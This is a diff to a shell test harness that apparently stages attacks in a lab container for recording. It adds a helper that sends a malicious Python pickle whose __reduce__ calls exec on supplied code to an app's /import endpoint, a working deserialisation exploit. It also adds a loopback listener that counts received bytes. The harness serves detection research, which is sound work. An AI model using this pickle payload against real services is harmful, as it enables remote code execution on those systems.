@@ -231,6 +231,46 @@ app_inject() {
   timeout 15 busybox wget -q -O /dev/null "http://127.0.0.1:$1/report?dir=$q" || true
 }
 
+# app_unpickle PORT CODE: the app's insecure deserialisation — a "backup" posted to /import whose pickle rebuilds its
+# object by calling exec(CODE), which runs in the app's own process, in the thread serving the request (waits at
+# most 15 s for the app's answer, a refusal: what exec returns is no backup).
+app_unpickle() {
+  timeout 20 python3 - "$1" "$2" <<'PY' || true
+import pickle, sys, urllib.error, urllib.request
+class Backup:
+    def __reduce__(self):
+        return (exec, (sys.argv[2],))
+req = urllib.request.Request(f"http://127.0.0.1:{sys.argv[1]}/import", data=pickle.dumps(Backup()), method="POST")
+try:
+    urllib.request.urlopen(req, timeout=15).read()
+except urllib.error.HTTPError:
+    pass
+PY
+}
+
+# sink_listener: a listener on the host's loopback that takes one connection and counts what it is sent (port in
+# LISTEN_PORT, pid in LISTENER; the count in $LAB_DIR/sink.PID.out). Returns once it listens; shell_listener_stop
+# ends it.
+sink_listener() {
+  LISTEN_PORT=$(free_port)
+  python3 - "$LISTEN_PORT" > "$LAB_DIR/sink.$$.out" 2>&1 <<'PY' &
+import socket, sys
+s = socket.create_server(("127.0.0.1", int(sys.argv[1])))
+s.settimeout(15)
+c, _ = s.accept()
+c.settimeout(5)
+n = 0
+try:
+    while (data := c.recv(65536)):
+        n += len(data)
+except socket.timeout:
+    pass
+print("bytes", n)
+PY
+  LISTENER=$!
+  local i; for i in $(seq 50); do ss -ltn "sport = :$LISTEN_PORT" | grep -q LISTEN && break; sleep 0.1; done
+}
+
 # attack_starts NAME: the marker that separates normal behaviour from the attack in a recording (an exec of
 # `true` with this argument, inside the container).
 attack_starts() { inside "$1" /bin/true kestrel-attack-start; }
